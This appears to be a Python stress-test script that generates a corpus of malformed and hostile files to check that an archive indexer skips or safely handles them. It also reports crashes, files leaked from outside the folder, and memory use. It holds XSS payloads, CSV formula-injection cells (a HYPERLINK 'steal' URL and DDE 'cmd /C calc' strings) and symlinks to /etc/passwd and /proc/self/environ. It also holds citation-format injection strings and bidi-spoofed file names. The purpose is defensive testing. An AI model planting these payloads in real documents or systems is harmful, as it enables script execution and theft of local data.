"""A corpus of bad files: empty, binary, truncated, huge, deeply nested, wrongly encoded, malicious.

    .venv/bin/python -m tests.stress.hostile_corpus DEST [--count 1000] [--huge-mib 50] [--sparse-gib 4]
                                                         [--index INDEX]

Every file must be skipped with a clear reason or indexed safely; nothing in it may ever run in a browser.
Besides ``--count`` files of the kinds in ``generate``, it holds one of each attack of the security probe
(``attacks()``): links out of the folder (absolute, ``../``, to ``/etc/passwd``, a folder link) and inside
it, a FIFO, sparse files of ``--sparse-gib`` GiB, an export with one record over the size limit, control and
bidi characters, hostile URLs (``javascript:``, ``data:``, a tab inside the scheme, newline and brace
injection), CSV formula cells, regex-bomb text, too-deep records and file names that are not UTF-8.

With ``--index``, it then runs ``archive index DEST --index INDEX --json`` and reports (JSON on stdout):
crashes (files that "could not be parsed", or a non-zero exit), files from outside the folder that were
indexed, the peak memory of the indexer and its workers, and the slowest releases to extract (CPU seconds).
Targets: 0, 0, ≤ 300 MB, ≤ 2 s; the exit code is 1 when one of the first three is missed.
"""

from __future__ import annotations

import argparse
import gzip
import json
import os
import random
import subprocess
import sys
import threading
import time
from pathlib import Path

PAYLOADS = [
    "<script>alert('x')</script>", '<img src=x onerror="alert(1)">', '<a href="javascript:alert(2)">click</a>',
    '<iframe src="https://evil.example/"></iframe>', "<style>body{display:none}</style>", '<svg onload="alert(3)">',
    '"><script>alert(4)</script>', "<object data=x></object>", '<div style="background:url(javascript:alert(5))">x</div>',
    "&lt;script&gt;alert(6)&lt;/script&gt;", "\u202eevil\u202c", "{{7*7}} ${7*7} <%= 7*7 %>",
]


def html_page(rng: random.Random, n: int) -> str:
    payload = rng.choice(PAYLOADS)
    return (f"<html><head><title>Hostile {n} {payload}</title><meta property=\"og:title\" content='{payload}'></head>"
            f"<body onload=\"alert('body')\"><h1>Release {n} {payload}</h1><p>CITY – Acme said {payload} today. "
            f"\"Quote {payload},\" said Jane Doe, Director of Acme.</p><p>{payload} more text about the harbor.</p></body></html>")


def write(path: Path, data: bytes | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))


def generate(dest: Path, count: int, huge_mib: int, seed: int = 1, sparse_gib: int = 4) -> int:
    rng = random.Random(seed)
    made = attacks(dest, sparse_gib, huge_mib)
    kinds = ["empty", "binary", "truncated", "nul", "latin1", "mixed", "utf16", "script", "json-scalar", "jsonl-bad",
             "json-broken", "gz-bad", "deep", "md-hostile", "whitespace", "bom-only", "long-line"]
    for n in range(count):
        kind = kinds[n % len(kinds)]
        folder = dest / kind
        if kind == "empty":
            write(folder / f"e{n}.html", b"")
        elif kind == "binary":
            write(folder / f"b{n}.txt", bytes(rng.randrange(256) for _ in range(2048)))
        elif kind == "truncated":
            write(folder / f"t{n}.html", html_page(rng, n)[: rng.randrange(10, 200)])
        elif kind == "nul":
            write(folder / f"n{n}.md", f"# Title {n}\n\nBody\x00 with NUL\x00 bytes, \"said\" Jo Ann.\n")
        elif kind == "latin1":
            write(folder / f"l{n}.txt", f"Caf\xe9 {n}\n\nPARIS, May 2, 2024 /Wire/ -- \xab Bonjour \xbb said Ren\xe9 Dupont.\n".encode("latin-1"))
        elif kind == "mixed":
            write(folder / f"m{n}.txt", b"Mixed {n}\n\n" + "café".encode() + b" \xe9\xff\xfe " + "naïve text here.".encode("utf-16-le"))
        elif kind == "utf16":
            write(folder / f"u{n}.md", "\ufeff# Titel {n}\n\nBERLIN, 2. Mai 2024 – Text.\n".encode("utf-16"))
        elif kind == "script":
            write(folder / f"s{n}.html", html_page(rng, n))
        elif kind == "json-scalar":
            write(folder / f"j{n}.json", rng.choice(["42", '"string"', "null", "[1,2,3]", "true"]))
        elif kind == "jsonl-bad":
            lines = [json.dumps({"title": f"T {n} {rng.choice(PAYLOADS)}", "date": "2024-01-02", "text": f"Body {rng.choice(PAYLOADS)}"}),
                     "{not json", "[]", '{"title": "no text"}', "\x00\x01", json.dumps({"text": ["a", {"b": 1}, None]})]
            write(folder / f"jl{n}.jsonl", "\n".join(lines))
        elif kind == "json-broken":
            write(folder / f"jb{n}.json", '{"title": "Broken", "text": "unterminated')
        elif kind == "gz-bad":
            good = gzip.compress(b'{"title": "Zipped", "text": "Body text.", "date": "2024-05-06"}\n')
            write(folder / f"g{n}.jsonl.gz", good[: rng.randrange(5, len(good))] if n % 2 else b"not gzip at all")
        elif kind == "deep":
            depth = 100_000 if n < len(kinds) * 2 else 5_000
            write(folder / f"d{n}.html", "<html><body>" + "<div>" * depth + "<p>deep text</p>" + "</div>" * depth + "</body></html>")
        elif kind == "md-hostile":
            write(folder / f"h{n}.md", f"# {rng.choice(PAYLOADS)}\n\n[link](javascript:alert(1)) <script>alert(1)</script> text.\n\n---\n\n[x](y)\n")
        elif kind == "whitespace":
            write(folder / f"w{n}.txt", " \n\t\n   \n")
        elif kind == "bom-only":
            write(folder / f"bo{n}.md", b"\xef\xbb\xbf")
        elif kind == "long-line":
            write(folder / f"ll{n}.txt", "Long\n\n" + "word " * 200_000)
        made += 1
    write(dest / "huge" / "huge.html", b"<html><body><p>" + b"x " * (huge_mib * 2**19) + b"</p></body></html>")
    made += 1
    try:
        os.symlink("loop", dest / "loop", target_is_directory=True)
        (dest / "loop-dir").mkdir(exist_ok=True)
        os.symlink("..", dest / "loop-dir" / "up", target_is_directory=True)
        os.symlink("/nonexistent/file.html", dest / "dangling.html")
        made += 3
    except OSError:
        pass
    odd = dest / os.fsdecode(b"caf\xe9-latin1-name.txt")
    odd.write_bytes(b"Odd Name\n\nLONDON, May 2, 2024 /Wire/ -- A file whose name is not UTF-8.\n")
    locked = dest / "locked.html"
    locked.write_text(html_page(rng, 0))
    locked.chmod(0)
    return made + 2


SECRET = "OUTSIDE-THE-ROOT-SECRET"
FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"Click for details")', "+cmd|' /C calc'!A0 formula 1",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tab", "\r=1+1 return"]
URLS = ["javascript:alert('JSONURL')", "data:text/html,<script>alert(1)</script>", "java\tscript:alert(1)",
        "vbscript:msgbox(1)", "https://example.com/a}, note = {INJECTED-BIBTEX}, x = {\nTY  - JOUR\nAU  - INJECTED RIS AUTHOR\nER  - ",
        "https://example.com/b}race\\input{/etc/passwd}", 'https://example.com/"><script>alert(1)</script>']
BOMBS = {"a-run": "A" * 20_000, "us-run": "U.S. " * 5_000 + "said Jane Doe.",
         "names-run": "Jane Doe, " * 800 + "said the director.", "place-run": "WASHINGTON, " + "D.C. " * 44 + "-- text."}
BODY = "The harbor office issued a notice about dredging the channel on Monday."


def attacks(dest: Path, sparse_gib: int, huge_mib: int) -> int:
    """One of each attack of the security probe; returns how many files (links included) it made."""
    outside = dest.parent / f"{dest.name}-outside"
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "secret.md").write_text(f"# Secret\n\n{SECRET} payroll figures.\n")
    (outside / "folder").mkdir(exist_ok=True)
    (outside / "folder" / "inner.md").write_text(f"# Inner\n\n{SECRET} in a folder.\n")
    links = dest / "links"
    write(links / "target.md", "# Harbor Opens\n\nTESSALY, May 2, 2024 -- The harbor opened on Monday.\n")
    made = 1
    for name, target in [("passwd.txt", "/etc/passwd"), ("passwd.md", "/etc/passwd"), ("secret.md", str(outside / "secret.md")),
                         ("relsecret.md", f"../../{outside.name}/secret.md"), ("dotdot.md", "../links/target.md"),
                         ("inside.md", "target.md"), ("outside-folder", str(outside / "folder")),
                         ("environ.txt", "/proc/self/environ"), ("zero.md", "/dev/zero")]:
        try:
            os.symlink(target, links / name)
            made += 1
        except OSError:
            pass
    try:
        os.mkfifo(links / "pipe.md")
        made += 1
    except (OSError, AttributeError):
        pass
    sparse = dest / "sparse"
    sparse.mkdir(parents=True, exist_ok=True)
    for name, head in [("huge.md", b""), ("huge.jsonl", b'{"title": "A", "text": "Body one."}\n{"title": "B", "text": "Body two."}\n')]:
        with open(sparse / name, "wb") as fh:
            fh.write(head)
            fh.truncate(sparse_gib << 30)
        made += 1
    record = json.dumps({"title": "Harbor Notice", "date": "2024-03-11", "text": BODY})
    with open(sparse / "overlong-record.jsonl", "w", encoding="utf-8") as fh:  # written, not sparse
        fh.write(f"{record}\n{record}\n")
        fh.write(json.dumps({"title": "Huge", "text": "x" * (max(huge_mib, 21) << 20)}) + f"\n{record}\n")
    made += 1
    lines = [{"title": "Control chars \u0001\u0002\u0008\u000b\u001b\ufffe\uffff in title"},
             {"title": "Invoice evil\u202egpj.exe", "issuer": "Acme\u200d Corp\u2060", "tags": ["Saf\u200bety", "Safety"]},
             {"title": "Harbor " * 20_000}, {"text": [f"Paragraph {n} of the notice." for n in range(20_000)]},
             *({"url": url} for url in URLS),
             *({"title": f, "issuer": f, "tags": [f]} for f in FORMULAS),
             *({"title": f"Bomb {name}", "text": text} for name, text in BOMBS.items()),
             {"title": "Lone surrogate \ud800 here"}]
    json_dir = dest / "json"
    json_dir.mkdir(parents=True, exist_ok=True)
    with open(json_dir / "attacks.jsonl", "w", encoding="utf-8") as fh:
        for n, fields in enumerate(lines):
            fh.write(json.dumps({"title": f"Attack {n}", "date": "2024-01-02", "text": BODY, **fields}) + "\n")
        fh.write('{"title": "Deep", "text": ' + "[" * 100_000 + "]" * 100_000 + "}\n" + record + "\n")
    write(json_dir / "deep-doc.json", '{"title": "Deep", "text": ' + "[" * 200_000 + "]" * 200_000 + "}")
    made += 2
    for n, url in enumerate(URLS):
        href = url.replace('"', "&quot;")
        write(dest / "html" / f"canon-{n}.html", f'<html><head><title>Canonical {n}</title><link rel="canonical" href="{href}">'
                                                 f"</head><body><h1>Canonical {n}</h1><p>{BODY}</p></body></html>")
    write(dest / "html" / "controls.html", "<html><head><title>Ctl \x01\x1b\u202e title</title></head><body>"
                                          f"<h1>Ctl \x01\x1b\u202e title</h1><p>{BODY} \x07\x0b</p></body></html>")
    made += len(URLS) + 1
    write(dest / "md" / "formula.md", f"# {FORMULAS[0]}\n\n{BODY}\n\n---\n\n[Original/Source Press Release](javascript:alert(1))\n")
    for name, text in BOMBS.items():
        write(dest / "md" / f"bomb-{name}.md", f"# Bomb {name}\n\n{text}\n")
        write(dest / "txt" / f"bomb-{name}.txt", f"{text}\n\n{BODY}\n")
    made += 1 + 2 * len(BOMBS)
    names = dest / "names"
    names.mkdir(parents=True, exist_ok=True)
    for raw in (b"\xff.md", b"\xfe.md", b"\xfd.md", b"x\nfake: 999 releases indexed OK.md", b"evil\xe2\x80\xaetxt.md"):
        (names / os.fsdecode(raw)).write_text(f"# Notice {raw[0]}\n\n{BODY}\n")
        made += 1
    return made


def report(dest: Path, index: Path) -> dict:
    """Index ``dest`` as a user would and measure what the probe's targets are about."""
    from archive.store import IndexHome, IndexReader
    from benchmarks.common import tree_rss_kib

    started, peak = time.monotonic(), 0
    proc = subprocess.Popen([sys.executable, "-m", "archive.cli", "index", str(dest), "--index", str(index), "--json"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    out: list[bytes] = []
    reader_thread = threading.Thread(target=lambda: out.append(proc.stdout.read()), daemon=True)  # type: ignore[union-attr]
    reader_thread.start()
    main_peak = 0
    while proc.poll() is None:
        peak = max(peak, tree_rss_kib(proc.pid))
        main_peak = max(main_peak, _pss_kib(proc.pid))
        time.sleep(0.05)
    reader_thread.join()
    summary = json.loads(b"".join(out) or b"{}")
    reader = IndexReader(IndexHome(index))
    try:
        outside = sorted({r.source for r in reader.iter_releases()
                          if SECRET in " ".join([r.title, *r.paragraphs]) or "root:x:0:0" in " ".join([r.title, *r.paragraphs])})
    finally:
        reader.close()
    crashes = [s for s in summary.get("skipped", []) if "could not be parsed" in s["reason"]]
    slow = [s for s in summary.get("skipped", []) if s["reason"].startswith(("took longer", "not extracted"))]
    return {
        "exit_code": proc.returncode, "seconds": round(time.monotonic() - started, 1),
        "releases": summary.get("releases"), "skipped": len(summary.get("skipped", [])),
        "crashes": len(crashes) + (proc.returncode != 0), "crashed": crashes,
        "outside_indexed": len(outside), "outside": outside,
        "peak_memory_mb": round(peak / 1024, 1), "peak_writer_mb": round(main_peak / 1024, 1),
        "slowest_records": summary.get("slowest", []), "stopped_for_time": slow,
    }


def _pss_kib(pid: int) -> int:
    """The memory of the indexer's own process (the writer), without its workers."""
    try:
        return next(int(line.split()[1]) for line in Path(f"/proc/{pid}/smaps_rollup").read_text().splitlines()
                    if line.startswith("Pss:"))
    except (OSError, StopIteration, ValueError):
        return 0


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("dest", type=Path)
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--huge-mib", type=int, default=50)
    parser.add_argument("--sparse-gib", type=int, default=4)
    parser.add_argument("--index", type=Path, default=None, help="Index the corpus there and report.")
    args = parser.parse_args()
    made = generate(args.dest, args.count, args.huge_mib, sparse_gib=args.sparse_gib)
    print(f"{made} hostile files in {args.dest}", file=sys.stderr)
    if args.index is None:
        return 0
    result = report(args.dest, args.index)
    print(json.dumps(result, indent=2, ensure_ascii=False))
    return 1 if result["crashes"] or result["outside_indexed"] or result["peak_memory_mb"] > 300 else 0


if __name__ == "__main__":
    raise SystemExit(main())
